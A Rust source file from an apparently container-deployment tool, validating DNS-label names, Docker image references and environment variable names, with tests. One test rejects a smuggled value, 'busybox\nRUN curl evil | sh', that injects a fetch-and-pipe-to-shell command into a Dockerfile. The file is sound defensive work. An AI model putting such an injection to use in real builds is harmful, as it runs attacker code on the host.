//! Validated names. App and project names become host names (`<app>.<base-domain>`),
//! container names and network names, so they are lowercase ASCII DNS labels: the schema
//! carries the rule (pattern + maxLength) and deserialization enforces it again, so no
//! adapter can let a bad name through.

use schemars::{JsonSchema, Schema, SchemaGenerator, json_schema};
use serde::{Deserialize, Serialize};
use std::borrow::Cow;
use std::fmt;

use super::ids::{AppId, ProjectId};

/// A Docker image reference as Docker accepts it: an optional registry (`host[:port]/`), a
/// lowercase repository path, an optional tag and an optional sha256 digest.
pub const IMAGE_REF_PATTERN: &str = r"^([A-Za-z0-9.-]+(:[0-9]+)?/)?[a-z0-9]+([._-]+[a-z0-9]+)*(/[a-z0-9]+([._-]+[a-z0-9]+)*)*(:[A-Za-z0-9_][A-Za-z0-9_.-]{0,127})?(@sha256:[a-f0-9]{64})?$";

/// Whether `s` is an image reference by [`IMAGE_REF_PATTERN`], at most 255 bytes. The tools'
/// schemas carry the rule; the engine checks it again where an image is written into a
/// Dockerfile, so that no caller can get a newline or a second instruction into one.
pub fn is_image_ref(s: &str) -> bool {
    static RE: std::sync::LazyLock<regex::Regex> =
        std::sync::LazyLock::new(|| regex::Regex::new(IMAGE_REF_PATTERN).expect("a valid pattern"));
    s.len() <= 255 && RE.is_match(s)
}

/// The DNS-label rule shared by app and project names.
pub const DNS_LABEL_PATTERN: &str = "^[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?$";

/// A lowercase ASCII DNS label (RFC 1123): 1–63 of `a-z 0-9 -`, no leading or trailing `-`.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct ResourceName(String);

impl ResourceName {
    pub fn parse(s: &str) -> Result<Self, String> {
        let ok = !s.is_empty()
            && s.len() <= 63
            && s.bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
            && !s.starts_with('-')
            && !s.ends_with('-');
        if ok {
            Ok(Self(s.to_owned()))
        } else {
            Err(format!(
                "`{}` is not a valid name: use 1-63 lowercase ASCII letters, digits and `-`, \
                 not starting or ending with `-`",
                s.chars().take(80).collect::<String>()
            ))
        }
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl TryFrom<String> for ResourceName {
    type Error = String;
    fn try_from(s: String) -> Result<Self, String> {
        Self::parse(&s)
    }
}

impl From<ResourceName> for String {
    fn from(n: ResourceName) -> String {
        n.0
    }
}

impl fmt::Display for ResourceName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl JsonSchema for ResourceName {
    fn schema_name() -> Cow<'static, str> {
        "ResourceName".into()
    }
    fn json_schema(_: &mut SchemaGenerator) -> Schema {
        json_schema!({
            "type": "string",
            "minLength": 1,
            "maxLength": 63,
            "pattern": DNS_LABEL_PATTERN,
            "description": "Lowercase ASCII DNS label: 1-63 of a-z, 0-9 and -, not starting or ending with -.",
        })
    }
}

/// A reference to a project or app given by a user: either its id or its name.
/// People type names (`--project demo`); scripts and models often hold ids. Both work.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub enum ResourceRef {
    Project(ProjectId),
    App(AppId),
    Name(ResourceName),
}

impl ResourceRef {
    fn parse(s: String) -> Result<Self, String> {
        if let Ok(id) = ProjectId::try_from(s.clone()) {
            return Ok(Self::Project(id));
        }
        if let Ok(id) = AppId::try_from(s.clone()) {
            return Ok(Self::App(id));
        }
        if s.starts_with(ProjectId::PREFIX) || s.starts_with(AppId::PREFIX) {
            return Err(format!(
                "`{}` is not a valid id",
                s.chars().take(80).collect::<String>()
            ));
        }
        ResourceName::parse(&s).map(Self::Name)
    }
}

impl TryFrom<String> for ResourceRef {
    type Error = String;
    fn try_from(s: String) -> Result<Self, String> {
        Self::parse(s)
    }
}

impl From<ResourceRef> for String {
    fn from(r: ResourceRef) -> String {
        match r {
            ResourceRef::Project(id) => id.into(),
            ResourceRef::App(id) => id.into(),
            ResourceRef::Name(n) => n.into(),
        }
    }
}

impl fmt::Display for ResourceRef {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&String::from(self.clone()))
    }
}

impl JsonSchema for ResourceRef {
    fn schema_name() -> Cow<'static, str> {
        "ResourceRef".into()
    }
    fn json_schema(_: &mut SchemaGenerator) -> Schema {
        json_schema!({
            "type": "string",
            "minLength": 1,
            "maxLength": 63,
            "pattern": "^([a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?|(prj|app)_[0-9a-f]{32})$",
            "description": "An id (`prj_...`, `app_...`) or a name.",
        })
    }
}

/// An environment variable name: `[A-Za-z_][A-Za-z0-9_]*`, at most 255 bytes, the POSIX
/// portable set, so every runtime and shell can read it.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct EnvKey(String);

impl EnvKey {
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl TryFrom<String> for EnvKey {
    type Error = String;
    fn try_from(s: String) -> Result<Self, String> {
        let mut bytes = s.bytes();
        let ok = s.len() <= 255
            && bytes.next().is_some_and(|b| b.is_ascii_alphabetic() || b == b'_')
            && bytes.all(|b| b.is_ascii_alphanumeric() || b == b'_');
        if ok {
            Ok(Self(s))
        } else {
            Err(format!(
                "`{}` is not a valid variable name: use letters, digits and `_`, not starting with a digit",
                s.chars().take(80).collect::<String>()
            ))
        }
    }
}

impl From<EnvKey> for String {
    fn from(k: EnvKey) -> String {
        k.0
    }
}

impl fmt::Display for EnvKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl JsonSchema for EnvKey {
    fn schema_name() -> Cow<'static, str> {
        "EnvKey".into()
    }
    fn json_schema(_: &mut SchemaGenerator) -> Schema {
        json_schema!({
            "type": "string",
            "minLength": 1,
            "maxLength": 255,
            "pattern": "^[A-Za-z_][A-Za-z0-9_]*$",
            "description": "Environment variable name: letters, digits and _, not starting with a digit.",
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn image_references_follow_dockers_grammar() {
        let re = regex::Regex::new(IMAGE_REF_PATTERN).unwrap();
        for ok in [
            "nginx",
            "nginx:1.27",
            "sh0-test/busybox:latest",
            "registry.local:5000/team/app:v1.2-RC",
            "ghcr.io/org/app@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        ] {
            assert!(re.is_match(ok), "{ok}");
        }
        for bad in ["rzgHoI_0KR0", "Nginx", "app:", "-app", "a//b", "app:-x", "app name"] {
            assert!(!re.is_match(bad), "{bad}");
        }
    }

    proptest::proptest! {
        /// An image is written into a Dockerfile's `FROM` line (by `BaseImages`, which checks
        /// it with this): no accepted image holds a character that could end the line or
        /// start anything else in it.
        #[test]
        fn no_image_reference_can_break_out_of_a_from_line(
            prefix in "[a-z0-9./:-]{0,20}",
            bad in proptest::sample::select(vec!['\n', '\r', ' ', '\t', '\\', '$', '#', '"', '\'', '`', ';', '&', '|', '\u{0}', 'é']),
            suffix in "[a-z0-9./:-]{0,20}",
        ) {
            let image = format!("{prefix}{bad}{suffix}");
            proptest::prop_assert!(!is_image_ref(&image), "{image:?}");
        }
    }

    #[test]
    fn image_references_are_checked_outside_the_schema_too() {
        assert!(is_image_ref("registry.local:5000/team/node:22-bookworm-slim"));
        assert!(!is_image_ref(&format!("a{}", "b".repeat(255))));
        assert!(!is_image_ref("busybox\nRUN curl evil | sh"));
    }

    #[test]
    fn names_follow_dns_label_rules() {
        for ok in ["a", "web", "my-app-2", &"a".repeat(63)] {
            assert!(ResourceName::parse(ok).is_ok(), "{ok}");
        }
        for bad in ["", "-a", "a-", "Web", "wéb", "a_b", "a.b", "应用", &"a".repeat(64)] {
            assert!(ResourceName::parse(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn refs_tell_ids_from_names() {
        let id = AppId::generate();
        assert_eq!(ResourceRef::try_from(id.to_string()).unwrap(), ResourceRef::App(id));
        assert!(matches!(
            ResourceRef::try_from("demo".to_string()).unwrap(),
            ResourceRef::Name(_)
        ));
        assert!(ResourceRef::try_from("app_nothex".to_string()).is_err());
    }

    #[test]
    fn env_keys() {
        assert!(EnvKey::try_from("DATABASE_URL".to_string()).is_ok());
        assert!(EnvKey::try_from("_x1".to_string()).is_ok());
        for bad in ["", "1A", "A-B", "A B", "É"] {
            assert!(EnvKey::try_from(bad.to_string()).is_err(), "{bad}");
        }
    }
}
